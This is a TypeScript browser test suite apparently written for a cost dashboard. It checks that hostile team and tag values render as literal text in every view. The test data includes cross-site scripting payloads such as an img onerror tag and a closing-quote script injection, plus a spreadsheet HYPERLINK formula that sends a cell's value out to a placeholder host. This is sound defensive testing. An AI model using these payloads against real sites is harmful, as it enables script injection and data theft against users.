import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROOT, serveDashboard, type ServedDashboard } from '../browser/harness.js';
import { HOSTILE_TAG_VALUES, hostileTeams, seedHostileDb, type HostileDb } from './fixtures/hostile-db.js';

/*
 * Hostile label and tag values render as text. The dashboard is served over a database seeded from the `hostile`
 * sandbox scenario (team and label values like <img src=x onerror=alert(1)> and "><script>…) plus bill lines
 * tagged with markup, and every page is opened in headless Chromium with the Content-Security-Policy bypassed, so
 * the page's own escaping is what is tested (the CSP would otherwise block an injected handler and hide the bug).
 * No dialog may open, no element or handler may be injected, and the values must show literally.
 */
let h: HostileDb;
let served: ServedDashboard;
let browser: Browser;
let baseUrl: string;
let range: string;

beforeAll(async () => {
  h = await seedHostileDb(2);
  range = `from=${new Date(h.startMs).toISOString().slice(0, 10)}&to=${new Date(h.endMs).toISOString().slice(0, 10)}`;
  served = await serveDashboard(h.db, h.endMs);
  ({ browser, baseUrl } = served);
}, 120_000);
afterAll(async () => {
  await served?.close();
  h?.close();
});

/** Elements and attributes only an injection would bring: the app itself renders none of them. */
const INJECTED = 'img[src="x"], iframe, svg[onload], details[ontoggle], script:not([src]), [onerror], [onload], [ontoggle], [onclick]';

/** Opens `path`, waits for its reads (and for `shows` to appear, when given), and reports what happened. */
async function visit(
  path: string,
  shows: readonly string[] = [],
): Promise<{ page: Page; dialogs: string[]; text: string; injected: number }> {
  const context = await browser.newContext({ bypassCSP: true, viewport: { width: 1280, height: 900 } });
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss();
  });
  await page.goto(`${baseUrl}${path}`);
  await page.waitForLoadState('networkidle'); // the page's lazy chunk and its API reads are in
  if (shows.length > 0)
    await page.waitForFunction((all) => all.every((t) => document.body.innerText.includes(t)), shows, { timeout: 20_000 });
  else await page.waitForTimeout(500); // charts and tables render from what arrived
  const text = await page.locator('body').innerText();
  const injected = await page.locator(INJECTED).count();
  return { page, dialogs, text, injected };
}

describe('the dashboard over hostile label and tag values', () => {
  it.each(['/', '/nodepools', '/consolidation', '/nodes'])('%s: no dialog, nothing injected', async (path) => {
    const { page, dialogs, injected } = await visit(`${path}?${range}`);
    expect(dialogs).toEqual([]);
    expect(injected).toBe(0);
    await page.context().close();
  });

  it('/teams: no dialog, nothing injected, the team values shown literally', async () => {
    // The teams with pods in the first two days (the batch team's jobs start on day three).
    const present = hostileTeams().filter((t) => !t.startsWith('@'));
    const { page, dialogs, text, injected } = await visit(`/teams?${range}`, present);
    expect(dialogs).toEqual([]);
    expect(injected).toBe(0);
    expect(present.filter((t) => !text.includes(t))).toEqual([]);
    expect(present).toEqual(
      expect.arrayContaining([
        '<img src=x onerror=alert(1)>',
        '"><script>alert(document.domain)</script>',
        '=HYPERLINK("https://example.invalid/?q="&A1,"open")',
      ]),
    );
    await page.screenshot({ path: join(ROOT, 'test', 'screenshots', 'hostile-teams.png'), fullPage: true });
    await page.context().close();
  });

  it('/teams with a hostile team chosen in the URL filter: no dialog, nothing injected', async () => {
    const { page, dialogs, injected } = await visit(`/teams?${range}&team=${encodeURIComponent('<img src=x onerror=alert(1)>')}`);
    expect(dialogs).toEqual([]);
    expect(injected).toBe(0);
    await page.context().close();
  });

  it('/bill on the day of the hostile tag values: no dialog, nothing injected, the values shown literally', async () => {
    const day = new Date(h.startMs).toISOString().slice(0, 10);
    const { page, dialogs, text, injected } = await visit(`/bill?day=${day}`, HOSTILE_TAG_VALUES);
    expect(dialogs).toEqual([]);
    expect(injected).toBe(0);
    expect(HOSTILE_TAG_VALUES.filter((v) => !text.includes(v))).toEqual([]);
    await page.context().close();
  });
});
